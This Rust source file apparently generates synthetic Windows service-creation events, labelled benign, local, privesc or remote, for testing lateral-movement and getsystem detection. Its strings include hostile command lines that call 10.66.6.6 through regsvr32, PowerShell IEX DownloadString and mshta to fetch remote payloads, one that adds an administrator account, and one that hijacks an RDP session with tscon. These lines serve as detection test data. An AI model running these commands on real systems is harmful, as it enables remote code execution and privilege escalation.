//! The plans of the behaviour variants that are not a lateral tool's version: getsystem
//! spellings, local runs, reconfigurations, thin evidence and odd-looking ordinary installs
//! (see the table in `variants.rs`, and `docs/fingerprints.md` for the sources).

use super::super::events::ServiceSpec;
use super::super::plans::{self, client, driver};
use super::super::reconfigure::Reconfig;
use super::super::rng::Rng;
use super::super::tools::{Origin, PipeImpersonation, Plan, Removal, Start, Target, ms, own};
use super::{BENIGN, LOCAL, PRIVESC, REMOTE, SUSPICIOUS};

pub(super) fn local_plan() -> Plan {
    Plan {
        origin: Origin::Interactive {
            logon_type: 2,
            logon_logged: false,
        },
        pipes: vec![],
        ..Plan::new()
    }
}

pub(super) fn system_plan(svc: ServiceSpec) -> Plan {
    Plan {
        svc,
        origin: Origin::System,
        pipes: vec![],
        verdict: SUSPICIOUS,
        ..Plan::new()
    }
}

pub(super) fn command_removed(p: &mut Plan, rng: &mut Rng) {
    p.start = Start::Command;
    p.removal = Removal::Immediate(ms(rng.range(30_005, 30_060)));
}

pub(super) fn empire_launcher(rng: &mut Rng) -> String {
    format!(
        r"C:\Windows\System32\WindowsPowershell\v1.0\powershell -noP -sta -w 1 -enc  {}",
        plans::base64ish(rng, 400)
    )
}

pub(super) fn empire_psexec(_: &Target, rng: &mut Rng) -> Plan {
    let mut p = Plan::new();
    p.svc = own(
        "Updater",
        "Updater",
        format!("%COMSPEC% /C start /b {}", empire_launcher(rng)),
        3,
    );
    command_removed(&mut p, rng);
    p
}

pub(super) fn empire_smbexec(_: &Target, rng: &mut Rng) -> Plan {
    let mut p = Plan::new();
    let name: String = (0..20)
        .map(|_| char::from(b'A' + rng.below(25) as u8))
        .collect();
    let image = format!(
        "%COMSPEC% /C \"%COMSPEC% /C start /b {}\"",
        empire_launcher(rng)
    );
    p.svc = own(&name, &name, image, 3);
    p.origin = Origin::Network { ntlm: true };
    command_removed(&mut p, rng);
    p
}

pub(super) fn tchopper(_: &Target, rng: &mut Rng) -> Vec<Plan> {
    // "hello from a smuggled payload" in base64, 8 characters a segment.
    let b64 = "aGVsbG8gZnJvbSBhIHNtdWdnbGVkIHBheWxvYWQ=";
    let mut out = Vec::new();
    for (i, chunk) in b64.as_bytes().chunks(8).enumerate() {
        let seg = format!("seg{}", i + 1);
        let chunk = std::str::from_utf8(chunk).expect("ascii");
        let image = format!(
            r#"c:\windows\system32\cmd.exe /c powershell -command "Get-Service "{seg}" | select -Expand DisplayName |out-file -append tmp_payload.txt""#
        );
        let mut p = Plan::new();
        p.svc = own(&seg, chunk, image, 3);
        p.origin = Origin::Network { ntlm: true };
        command_removed(&mut p, rng);
        out.push(p);
    }
    out
}

pub(super) fn getsystem_local(name: &str, image: String, rng: &mut Rng) -> Plan {
    let mut p = local_plan();
    p.svc = own(name, name, image, 3);
    command_removed(&mut p, rng);
    p.verdict = PRIVESC;
    p
}

pub(super) fn msf_dropper(t: &Target, rng: &mut Rng) -> Plan {
    let name = rng.letters(6).to_lowercase();
    let image = format!(
        r"rundll32.exe C:\Users\{}\AppData\Local\Temp\{name}.dll,a /p:{name}",
        t.local_user.name
    );
    getsystem_local(&name, image, rng)
}

pub(super) fn cs_getsystem(_: &Target, rng: &mut Rng) -> Plan {
    let name = rng.hex(7);
    let image = format!(
        r"%COMSPEC% /c echo {} > \\.\pipe\{}",
        rng.hex(11),
        rng.hex(6)
    );
    getsystem_local(&name, image, rng)
}

pub(super) fn empire_get_system(_: &Target, rng: &mut Rng) -> Plan {
    let image =
        r#"%COMSPEC% /C start %COMSPEC% /C "timeout /t 3 >nul&&echo TestSVC > \\.\pipe\TestSVC""#;
    getsystem_local("TestSVC", image.into(), rng)
}

pub(super) fn getsystem_respelt(_: &Target, rng: &mut Rng) -> Plan {
    let pipe = rng.letters(5);
    let image = format!(r#"C:\Windows\System32\cmd.exe /D /Q /C "echo 1>"\\.\pipe\{pipe}"""#);
    getsystem_local(&rng.letters(9), image, rng)
}

pub(super) fn getsystem_powershell(_: &Target, rng: &mut Rng) -> Plan {
    let pipe = rng.hex(8);
    let image = format!(
        r#"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe -NonInteractive -NoProfile -Command "'ok' | Out-File -FilePath \\.\pipe\{pipe}""#
    );
    getsystem_local(&rng.letters(8), image, rng)
}

pub(super) fn getsystem_mechanism(t: &Target, rng: &mut Rng) -> Plan {
    let file = rng.letters(8).to_lowercase();
    let mut p = getsystem_local(&file, format!(r"C:\Windows\Temp\{file}.exe"), rng);
    p.start = Start::Service;
    p.impersonation = Some(PipeImpersonation {
        pipe: rng.hex(12),
        creator_image: format!(
            r"C:\Users\{}\AppData\Local\Temp\notepad++.exe",
            t.local_user.name
        ),
    });
    p
}

pub(super) fn msf_namedpipe_local(_: &Target, rng: &mut Rng) -> Plan {
    let name = rng.letters(6).to_lowercase();
    getsystem_local(
        &name,
        format!(r"cmd.exe /c echo {name} > \\.\pipe\{name}"),
        rng,
    )
}

pub(super) fn cs_svc_exe(_: &Target, rng: &mut Rng) -> Plan {
    let name = rng.alnum(7);
    let mut p = local_plan();
    p.svc = own(&name, &name, format!(r"\\127.0.0.1\ADMIN$\{name}.exe"), 3);
    p.removal = Removal::Immediate(ms(rng.range(400, 1500)));
    p.verdict = PRIVESC;
    p
}

pub(super) fn rdp_hijack(t: &Target, rng: &mut Rng) -> Plan {
    let mut p = local_plan();
    p.origin = Origin::Interactive {
        logon_type: 10,
        logon_logged: true,
    };
    p.svc = own(
        "sesshijack",
        "sesshijack",
        "cmd.exe /k tscon 1337 /dest:rdp-tcp#55".into(),
        3,
    );
    p.client = Some(client(
        r"C:\Windows\System32\sc.exe",
        r#"sc.exe create sesshijack binpath= "cmd.exe /k tscon 1337 /dest:rdp-tcp#55""#,
        "sc.exe",
    ));
    command_removed(&mut p, rng);
    p.verdict = PRIVESC;
    let _ = t;
    p
}

pub(super) fn local_psexec(_: &Target, rng: &mut Rng) -> Plan {
    let mut p = local_plan();
    p.svc = own(
        "PSEXESVC",
        "PSEXESVC",
        r"%SystemRoot%\PSEXESVC.exe".into(),
        3,
    );
    p.client = Some(client(
        r"C:\Tools\SysinternalsSuite\PsExec.exe",
        r"PsExec.exe -accepteula -s -i cmd.exe",
        "psexec.c",
    ));
    p.removal = Removal::OnExit(ms(rng.range(300, 4000)));
    p.verdict = LOCAL;
    p
}

pub(super) fn local_psexec_renamed(t: &Target, rng: &mut Rng) -> Plan {
    let mut p = local_psexec(t, rng);
    p.client = Some(client(
        r"C:\Users\Public\wupdate.exe",
        r"wupdate.exe -s cmd.exe /c whoami",
        "psexec.c",
    ));
    p
}

pub(super) fn local_paexec(_: &Target, rng: &mut Rng) -> Plan {
    let mut p = local_plan();
    let pid = rng.range(1200, 9800);
    let name = format!("PAExec-{pid}-VAR");
    p.svc = own(&name, &name, format!(r"C:\Windows\{name}.exe -service"), 3);
    p.client = Some(client(
        r"C:\Users\Public\PAExec.exe",
        r"PAExec.exe -s cmd.exe",
        "PAExec.exe",
    ));
    p.removal = Removal::OnExit(ms(rng.range(300, 4000)));
    p.verdict = LOCAL;
    p
}

pub(super) fn local_sc(_: &Target, rng: &mut Rng) -> Plan {
    let mut p = local_plan();
    let image = r"cmd.exe /c whoami > C:\Windows\Temp\o.txt".to_string();
    p.svc = own("upd", "upd", image.clone(), 3);
    p.client = Some(client(
        r"C:\Windows\System32\sc.exe",
        &format!(r#"sc.exe create upd binPath= "{image}""#),
        "sc.exe",
    ));
    command_removed(&mut p, rng);
    p.verdict = LOCAL;
    p
}

pub(super) fn local_rdp_logon(_: &Target, rng: &mut Rng) -> Plan {
    let mut p = local_plan();
    p.origin = Origin::Interactive {
        logon_type: 10,
        logon_logged: true,
    };
    p.svc = own(
        "tmpsvc",
        "tmpsvc",
        r"%COMSPEC% /c net user > C:\Windows\Temp\u.txt".into(),
        3,
    );
    command_removed(&mut p, rng);
    p.verdict = LOCAL;
    p
}

pub(super) fn local_session_only(_: &Target, rng: &mut Rng) -> Plan {
    let mut p = local_plan();
    p.svc = own("dbgsvc", "dbgsvc", r"C:\Windows\Temp\dbg.exe".into(), 3);
    p.removal = Removal::Immediate(ms(rng.range(2000, 9000)));
    p.verdict = LOCAL;
    p
}

pub(super) fn local_explicit(t: &Target, rng: &mut Rng) -> Plan {
    let mut p = local_plan();
    p.svc = own(
        "PSEXESVC",
        "PSEXESVC",
        r"%SystemRoot%\PSEXESVC.exe".into(),
        3,
    );
    let mut c = client(
        r"C:\Tools\PsExec64.exe",
        &format!(r"PsExec64.exe \\{} -u CORP\adm -p x cmd.exe", t.netbios),
        "psexec.c",
    );
    c.explicit_to = Some(t.netbios.clone());
    p.client = Some(c);
    p.removal = Removal::OnExit(ms(rng.range(300, 4000)));
    p.verdict = LOCAL;
    p
}

pub(super) fn scshell() -> Reconfig {
    Reconfig {
        key: "XblAuthManager".into(),
        display: "Xbox Live Auth Manager".into(),
        original: r"C:\Windows\system32\svchost.exe -k netsvcs -p".into(),
        temporary: vec![
            r"C:\windows\system32\cmd.exe /c C:\windows\system32\regsvr32.exe /s /n /u /i://10.66.6.6/payload.sct scrobj.dll".into(),
        ],
        start_was: None,
        restore_start: false,
        origin: Origin::Network { ntlm: true },
        tool: "scshell",
        verdict: REMOTE,
    }
}

pub(super) fn sharpnopsexec() -> Reconfig {
    Reconfig {
        key: "RemoteAccess".into(),
        display: "Routing and Remote Access".into(),
        original: r"C:\Windows\System32\svchost.exe -k netsvcs".into(),
        temporary: vec![r"cmd.exe /c powershell -nop -w hidden -c IEX(New-Object Net.WebClient).DownloadString('http://10.66.6.6/a')".into()],
        start_was: Some("disabled"),
        restore_start: true,
        origin: Origin::Network { ntlm: false },
        tool: "sharpnopsexec",
        verdict: REMOTE,
    }
}

pub(super) fn powerup() -> Reconfig {
    Reconfig {
        key: "VulnSvc".into(),
        display: "Vulnerable Service".into(),
        original: r#""C:\Program Files\Vuln Vendor\vulnsvc.exe""#.into(),
        temporary: vec![
            "net user john Password123! /add".into(),
            "net localgroup Administrators john /add".into(),
        ],
        start_was: Some("disabled"),
        restore_start: true,
        origin: Origin::Interactive {
            logon_type: 2,
            logon_logged: true,
        },
        tool: "powerup",
        verdict: PRIVESC,
    }
}

pub(super) fn thin_bare(_: &Target, _: &mut Rng) -> Plan {
    system_plan(own("netsvc32", "netsvc32", "netsvc32.exe".into(), 3))
}

pub(super) fn thin_root(_: &Target, _: &mut Rng) -> Plan {
    system_plan(own("Agent", "Agent", r"C:\agent.exe".into(), 2))
}

pub(super) fn thin_tools(_: &Target, _: &mut Rng) -> Plan {
    system_plan(own(
        "collector",
        "collector",
        r"C:\Tools\collector\collector.exe".into(),
        3,
    ))
}

pub(super) fn thin_network(_: &Target, _: &mut Rng) -> Plan {
    let mut p = Plan::new();
    p.svc = own(
        "ContosoAgent",
        "Contoso Agent",
        r#""C:\Program Files\Contoso\agent.exe""#.into(),
        2,
    );
    p.start = Start::Never;
    p.verdict = SUSPICIOUS;
    p
}

pub(super) fn thin_network_timeout(_: &Target, _: &mut Rng) -> Plan {
    let mut p = Plan::new();
    p.svc = own(
        "svcagent",
        "svcagent",
        r"C:\ProgramData\svc\agent.exe".into(),
        3,
    );
    p.start = Start::Command;
    p
}

pub(super) fn thin_driver(svc: ServiceSpec) -> Plan {
    Plan {
        svc,
        origin: Origin::Interactive {
            logon_type: 2,
            logon_logged: true,
        },
        pipes: vec![],
        verdict: SUSPICIOUS,
        ..Plan::new()
    }
}

pub(super) fn thin_mimidrv(_: &Target, _: &mut Rng) -> Plan {
    thin_driver(driver(
        "mimidrv",
        "mimikatz driver (mimidrv)",
        r"C:\Windows\System32\drivers\mimidrv.sys",
        2,
    ))
}

pub(super) fn thin_wce(_: &Target, _: &mut Rng) -> Plan {
    // As the shared corpus shows it: a binary off a second drive, left installed.
    thin_driver(own(
        "WCESERVICE",
        "WCESERVICE",
        r"D:\Service\test.exe".into(),
        3,
    ))
}

pub(super) fn thin_poortry(_: &Target, _: &mut Rng) -> Plan {
    thin_driver(driver(
        "POORTRY",
        "POORTRY",
        r"C:\Windows\System32\drivers\POORTRY.sys",
        3,
    ))
}

pub(super) fn thin_rtcore(t: &Target, _: &mut Rng) -> Plan {
    thin_driver(driver(
        "RTCore64",
        "RTCore64",
        &format!(
            r"C:\Users\{}\AppData\Local\Temp\RTCore64.sys",
            t.local_user.name
        ),
        3,
    ))
}

pub(super) fn benign(svc: ServiceSpec) -> Plan {
    Plan {
        verdict: BENIGN,
        ..system_plan(svc)
    }
}

pub(super) fn benign_mpksl(_: &Target, rng: &mut Rng) -> Plan {
    let name = format!("MpKsl{}", rng.hex(8));
    let image = format!(
        r"C:\ProgramData\Microsoft\Windows Defender\Definition Updates\{{{}-{}-{}-{}-{}}}\MpKslDrv.sys",
        rng.hex(8).to_uppercase(),
        rng.hex(4).to_uppercase(),
        rng.hex(4).to_uppercase(),
        rng.hex(4).to_uppercase(),
        rng.hex(12).to_uppercase()
    );
    benign(driver(&name, &name, &image, 1))
}

pub(super) fn benign_gpu(_: &Target, rng: &mut Rng) -> Plan {
    let image = format!(
        r"\SystemRoot\System32\DriverStore\FileRepository\nv_dispig.inf_amd64_{}\nvlddmkm.sys",
        rng.hex(16)
    );
    benign(driver("nvlddmkm", "nvlddmkm", &image, 3))
}

pub(super) fn benign_hyperv(_: &Target, _: &mut Rng) -> Plan {
    benign(driver(
        "vmgencounter",
        "Hyper-V Generation Counter",
        r"\SystemRoot\System32\drivers\vmgencounter.sys",
        3,
    ))
}

pub(super) fn benign_vendor_timeout(_: &Target, _: &mut Rng) -> Plan {
    let mut p = benign(own(
        "ContosoUpdate",
        "Contoso Update Service",
        r#""C:\Program Files (x86)\Contoso\Update\ContosoUpdate.exe" /svc"#.into(),
        2,
    ));
    p.start = Start::Command;
    p
}

pub(super) fn benign_vbox(_: &Target, _: &mut Rng) -> Plan {
    benign(driver(
        "VBoxDrv",
        "VirtualBox Service",
        r"\SystemRoot\System32\drivers\VBoxDrv.sys",
        1,
    ))
}

pub(super) fn koadic_createservice(_: &Target, rng: &mut Rng) -> Plan {
    let name = rng.letters(10);
    let image = format!("mshta http://10.66.6.6:9999/{}", rng.letters(5));
    let mut p = local_plan();
    p.svc = own(&name, &name, image.clone(), 3);
    p.client = Some(client(
        r"C:\Windows\System32\sc.exe",
        &format!(r#"sc create {name} binpath= "{image}""#),
        "sc.exe",
    ));
    command_removed(&mut p, rng);
    p.verdict = LOCAL;
    p
}
